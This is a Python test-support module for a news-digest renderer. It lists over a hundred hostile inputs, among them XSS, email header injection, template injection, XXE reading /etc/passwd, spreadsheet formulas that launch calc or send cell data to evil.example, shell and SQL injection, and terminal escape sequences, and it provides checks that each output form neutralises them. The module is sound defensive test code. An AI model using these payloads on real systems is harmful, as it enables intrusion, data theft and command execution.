"""The one list of attacks: what a hostile outlet, list, reader or server may write, and what is live in each form.

`HOSTILE` goes through every output: the forms of a digest in tests/unit/test_digest_hostile.py, every command and
file of a whole home in tests/integration/test_attacks.py. A `check_…` raises where something in a form would act.
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
import re
from dataclasses import replace
from functools import cache
from urllib.parse import urlsplit

from lxml import etree
from lxml import html as lxml_html
from markdown_it import MarkdownIt

from flows.digest.compose import compose
from flows.digest.feed import render_feed
from flows.digest.message import make_envelope, render
from flows.digest.records import Digest
from flows.digest.render import render_html, render_json, render_markdown
from flows.outputs.webhook import as_text
from tests.digest_builders import golden_digest

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)">',
    "attribute": '" onmouseover="alert(1)',
    "single quote": "' style='position:fixed",
    "comment": "--><script>x</script><!--",
    "style end": "</style><script>x</script>",
    "template": "{{ 7 * 7 }}{% for x in y %}",
    "entity": "&lt;b&gt; &#x3c;script&#x3e;",
    "header": "News\r\nBcc: victim@x.example",
    "bare newline": "News\nX-Injected: yes",
    "carriage return": "News\rX-Injected: yes",
    "body": "News\r\n\r\n<b>another body</b>",
    "boundary": "--=_yalu_",
    "encoded word": "=?utf-8?q?a=0D=0ABcc:_victim@x.example?=",
    "override": "safe\u202egnp.exe\u202c",
    "isolate": "\u2067abc\u2069",
    "zero width": "No\u200brth\u200c Ko\u200drea\ufeff",
    "null": "a\x00b\x08c\x1b]0;owned\x07",
    "line separator": "a\u2028X-Injected: yes",
    "very long": "긴 제목 " * 2000,
    "tower": "t" + "\u0310\u0323\u0334" * 300,
    "emoji and rare": "🚨👩‍👩‍👧 𠮷 \U0001f1f0\U0001f1f5",
    "nothing visible": "\u200b\u3164\u00ad",
    "arabic": "خبر عاجل (عاجل)",
    "mail dot": ".\r\n.\r\nQUIT",
    "svg": "<svg/onload=alert(1)>",
    "math": "<math><mi xlink:href=javascript:alert(1)>x",
    "iframe": "<iframe src=//evil.example>",
    "form": "<form action=https://evil.example><input name=password>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": "<base href=https://evil.example/>",
    "link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "style": "<style>*{display:none}</style>",
    "table end": "</td></tr></table><h1>owned</h1>",
    "half a tag": "<a href='https://evil.example",
    "cdata": "<![CDATA[<script>x</script>]]>",
    "doctype": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "conditional comment": "<!--[if mso]><script>x</script><![endif]-->",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong": "\udcc0\udcbcscript\udcc0\udcbe",
    "double encoded": "%3Cscript%3Ealert(1)%3C/script%3E",
    "full-width brackets": "＜script＞alert(1)＜/script＞",
    "jinja statement": "{% include '/etc/passwd' %}",
    "jinja attribute": "{{ ''.__class__.__mro__ }}",
    "format": "{0.__class__} %s %(x)s ${x} #{x}",
    "markdown link": "[click](javascript:alert(1))",
    "markdown image": "![x](https://evil.example/pixel.png)",
    "markdown autolink": "<https://evil.example/>",
    "markdown heading": "# Heading\n\n---\n- item",
    "markdown code": "`code` ``` fence ```",
    "markdown table": "a | b | c",
    "markdown html": "<b onclick=x>bold</b>",
    "slack channel": "<!channel> <@U123> @here",
    "slack link": "<https://evil.example|safe words>",
    "subject fold": "News\r\n X: folded",
    "vertical tab": "a\x0bb\x0cc\x85d",
    "many newlines": "\n" * 50 + "Subject: x",
    "content type": "x\r\nContent-Type: text/html\r\n\r\n<b>",
    "another part": "x\r\n--=_yalu0_\r\nContent-Type: text/html",
    "encoded base64": "=?utf-8?b?PHNjcmlwdD4=?=",
    "embedding": "\u202aabc\u202b\u202d",
    "marks": "\u200e\u200f\u061cabc",
    "tag characters": "x\U000e0041\U000e0042\U000e007f",
    "variation selectors": "a\ufe0f\U000e0100b",
    "private use": "\ue000\U000f0000\U00100000",
    "noncharacters": "\ufffe\uffff\U0001ffff",
    "lone surrogates": "\ud800 \udfff",
    "replacement": "\ufffd\ufffd",
    "escape codes": "\x1b[2J\x1b[31mred\x9b31m",
    "backspaces": "abc\x08\x08\x08xyz",
    "ten thousand": "x" * 10_000,
    "ten thousand wide": "國" * 10_000,
    "one long word": "https://" + "a" * 5000,
    "rare ideographs": "𪚥𪛖𠀀 龘 㐂 豈",
    "flags and families": "🏴󠁧󠁢󠁥󠁮󠁧󠁿👨‍👩‍👧‍👦🇰🇵🇨🇳",
    "half Hangul": "ᄀ" * 200 + "\u115f\u1160",
    "empty": "",
    "blanks": " \t\u3000\u00a0 ",
    "quotes": "\"'`´‘’“”«»",
    "backslashes": "\\\\r\\n\\u0000",
    "sql": "'; DROP TABLE articles; --",
    "shell": "$(touch x) `touch y` ; rm z",
    "dot lines": "..\r\n.\r\n",
    "number": "-1e309",
    "chat mentions": "@channel @all @here ops: @desk.editor",
    "chat channel": "see ~town-square and <#C123|general>",
    "chat tag": "#breaking news",
    "chat command": "/leave now",
    "chat group": "<!subteam^S123|editors> <!here|here> <!date^1^{date}^https://evil.example|x>",
    "chat user": "<@U123|ops>",
    "markdown image in a title": "![x](https://evil.example/p.png) [y](https://evil.example)",
    "markdown ends the link": "a](https://evil.example)![x](https://evil.example/p.png",
    "markdown reference": "[a][b] and [b]: https://evil.example",
    "markdown strike and rule": "~~struck~~ *** ___",
    "backslash last": "about the river\\",
    "bare address": "go to https://evil.example/x or www.evil.example",
    "bare scheme": "javascript://evil.example/%0aalert(1) ftp://evil.example",
    "bare mail": "mailto:v@evil.example v@evil.example",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\safe words\x1b]8;;\x1b\\",
    "terminal clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "terminal title": "\x1b]2;owned\x1b\\",
    "terminal answer back": "\x1b[6n\x1b[c\x05",
    "terminal C1": "\x9b2J\x9d52;c;ZXZpbA==\x9c\x90q\x9c",
    "terminal overwrite": "what is true\rwhat is false",
    "terminal conceal": "\x1b[8mhidden\x1b[0m",
    "terminal half": "\x1b[",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"more")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula carriage return": "\r=1+1",
    "formula in the next cell": 'x","=1+1","',
    "XML illegal": "a\x01\x0b\ufffe\uffff&#1;&#xFFFE;",
    "rich markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
    "Prometheus": 'x"} 1\nyalu_info{version="9',
    "invisible operators": "a\u2061\u2062\u2063\u2064b\ufff9c\ufffad\ufffb",
}
UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\ufffe\uffff"
    "\U000e0000-\U000e007f]"
)
EVIL = "evil.example"
OUR_ELEMENTS = frozenset(
    ("html", "head", "meta", "title", "style", "body", "main", "div", "span", "p", "a", "b", "bdi", "br", "h1", "h2",
     "h3", "img", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "script",
     "caption", "details", "summary", "figure", "figcaption", "svg", "defs", "pattern", "rect", "line")
)  # fmt: skip
# Addresses that pass for an article's and would be more than that where they are not encoded.
ADDRESSES = {
    "ends a link": "https://h.example/a)![x](https://evil.example/p.png",
    "brackets": "https://h.example/a][b](https://evil.example)",
    "mention": "https://h.example/@channel",
    "pipe": "https://h.example/a|b",
    "quote": 'https://h.example/a"onclick="x',
    "angle": "https://h.example/a><script>x</script>",
    "login": "https://h.example@evil.example/",
    "override": "https://h.example/\u202egnp.exe",
    "header": "https://h.example/a\r\nBcc: v@x.example",
    "script": "JaVaScRiPt:alert(1)",
    "data": "data:text/html,<script>x</script>",
    "port": "https://h.example:s3cret/x",
    "backslash": "https://h.example\\@evil.example/",
}
HEADERS = sorted(
    ["From", "To", "Subject", "Date", "Message-ID", "List-Id", "List-Unsubscribe", "Auto-Submitted", "Content-Language",
     "MIME-Version", "Content-Type"]
)  # fmt: skip
PARTS = ["text/plain", "text/html", "image/png"]


def poison(digest: Digest, text: str, address: str = "") -> Digest:
    """The digest with the text in every place that foreign text may stand in, and every article at the address."""

    def worse(row):
        changes = {key: text for key in ("title", "outlet", "note", "advice", "remark", "said", "around") if key in row}
        if "around" in row:
            changes |= {"span_start": 0, "span_end": len(text)}
        if "url" in row:
            changes["url"] = address or f"javascript:{text}"
        if "members" in row:
            changes["members"] = [worse(member) for member in row["members"]]
        return {**row, **changes}

    sections = tuple(
        replace(section, answers=tuple(replace(a, rows=tuple(map(worse, a.rows))) for a in section.answers))
        for section in digest.input.sections
    )
    return compose(replace(digest.input, sections=sections, correction=text), "ko")


@cache
def plain_names() -> frozenset[str]:
    """The elements and attributes of a digest without anything hostile."""
    digest = golden_digest()
    trees = [lxml_html.fromstring(page) for page in (render(digest).html, render_html(digest))]
    return frozenset(name for tree in trees for e in tree.iter() for name in (e.tag, *e.attrib))


def check_harmless(poisoned: Digest) -> None:
    rendered = render(poisoned)
    tree = lxml_html.fromstring(rendered.html)
    assert {name for e in tree.iter() for name in (e.tag, *e.attrib)} <= plain_names()
    assert not [link for link in tree.xpath("//@href") if not re.match(r"https?://|#q\d+$", link)]
    others = (render_markdown(poisoned), render_json(poisoned), render_feed([poisoned]), as_text(poisoned))
    for form in (rendered.html, rendered.text, *others):
        assert not UNSEEN.search(form)
    check_message(poisoned, rendered)
    json.loads(others[1])
    assert not etree.fromstring(others[2].encode()).xpath("//*[local-name()='script']")
    check_markdown(others[0])
    outside = re.sub(r"\]\(<[^<>\s]+>\)", "]", others[0])
    assert not re.search(r"(?i)(?<!\\)(?<=[a-z])://|(?<!\\)@|www\.|mailto:", outside)  # nothing linked by itself
    check_chat(others[3])


def check_seen(text: str) -> None:
    """Nothing that a terminal, an editor or a log viewer acts upon, and nothing that cannot be seen."""
    assert not (found := UNSEEN.search(text)), repr(text[max(found.start() - 40, 0) : found.end() + 40])


def check_markdown(text: str) -> None:
    """No image, no HTML, and no link but to an article's own address."""
    for parser in (MarkdownIt("commonmark").enable(["table", "strikethrough"]), MarkdownIt("js-default")):
        for token in parser.parse(text):
            for part in (token, *(token.children or ())):
                assert part.type not in {"image", "html_inline", "html_block"}, part
                assert part.type != "link_open" or is_ours(str(part.attrs["href"])), part


def is_ours(address: str) -> bool:
    """Whether an address is that of an article or of a note of ours; the attacks all lead to evil.example."""
    return address.startswith("#") or (bool(re.match(r"https?://", address)) and urlsplit(address).hostname != EVIL)


def check_chat(text: str) -> None:
    """Nothing that Slack or Mattermost acts upon but our own links and the bold first line."""
    check_seen(text)
    assert not re.search(r"<(?!https?://[^|<>\s]+\|[^|<>]+>)", text)  # Slack: only links, each with its words
    # Mattermost makes Markdown of Slack's links, then reads everything as Markdown with links by themselves.
    turned = re.sub(r"<([^<|]+)\|([^>]+)>", r"[\2](\1)", text)
    check_markdown(turned)
    outside = re.sub(r"\]\([^()\s]+\)", "]", turned)
    assert not re.search(r"(?i)\b[a-z][a-z0-9+.-]*://|\bwww\.|\bmailto:|@|~|#|`|\\|^\s*/|^ {4}", outside, re.MULTILINE)
    assert "*" not in outside.split("\n", 1)[-1]


def check_page(page: str) -> None:
    """An HTML page of ours: no element, handler or address that came with foreign text."""
    check_seen(page)
    tree = lxml_html.fromstring(page)
    for element in tree.iter(etree.Element):
        assert element.tag in OUR_ELEMENTS, element.tag
        assert not [name for name in element.attrib if name.startswith("on")]
        for name in ("href", "src", "action", "data"):
            assert re.match(r"(?:https?://(?!evil)|#|cid:|data:image/png)|$", element.get(name, "")), element.attrib


def check_xml(body: bytes) -> None:
    """XML that parses as it is, and nothing in it that cannot be seen."""
    check_seen(body.decode())
    etree.fromstring(body, etree.XMLParser(resolve_entities=False))


def check_csv(text: str) -> None:
    """No text that a spreadsheet takes for a formula."""
    check_seen(text)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if re.match(r"[=+\-@\t\r]", cell) and not re.fullmatch(r"[+-]?[\d.e+-]+", cell)]


def check_message(poisoned: Digest, rendered) -> None:
    envelope = make_envelope(rendered, "Yalu <yalu@desk.example>", "r@x.example", poisoned.subject)
    message = email.message_from_bytes(envelope.content, policy=email.policy.default)
    assert sorted(message.keys()) == HEADERS
    assert [part.get_content_type() for part in message.walk() if not part.is_multipart()] in (PARTS, PARTS[:2])
    assert "\n" not in message["Subject"]
    assert not message.defects
    assert len(message["Subject"]) <= 200


def as_attribute(text: str) -> str:
    """A text as an XML attribute may hold it; what XML cannot hold is written as the reference a careless list has."""
    return "".join(char if char.isalnum() else f"&#{ord(char)};" for char in text if char != "\0")
